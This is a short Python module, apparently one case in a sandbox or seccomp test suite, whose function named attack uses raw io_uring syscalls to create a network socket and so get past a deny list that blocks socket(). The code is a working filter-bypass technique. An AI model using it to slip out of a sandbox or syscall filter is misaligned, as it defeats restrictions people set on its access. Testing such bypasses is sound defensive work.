"""Lets an io_uring make a socket, past a list that leaves out socket().

shows: marker
layers: syscalls
"""
import ctypes
import mmap
import struct

import outside

SETUP, ENTER, SOCKET, GETEVENTS = 425, 426, 45, 1


def attack():
    parameters = ctypes.create_string_buffer(120)
    ring = outside.syscall(SETUP, 4, parameters)
    tail, _, array = [struct.unpack_from("<I", parameters, 40 + at)[0] for at in (4, 8, 24)]
    results = struct.unpack_from("<I", parameters, 80 + 20)[0]
    submissions, entries = mmap.mmap(ring, 4096), mmap.mmap(ring, 4096, offset=0x10000000)
    request = struct.pack("<BBHiQQII", SOCKET, 0, 0, 2, 2, 0, 0, 0)
    entries[: len(request)] = request
    submissions[array : array + 4] = struct.pack("<I", 0)
    submissions[tail : tail + 4] = struct.pack("<I", 1)
    outside.syscall(ENTER, ring, 1, 1, GETEVENTS, None, 0)
    made = struct.unpack_from("<i", submissions, results + 8)[0]
    return f"socket {made} was made by a ring" if made > 0 else ""
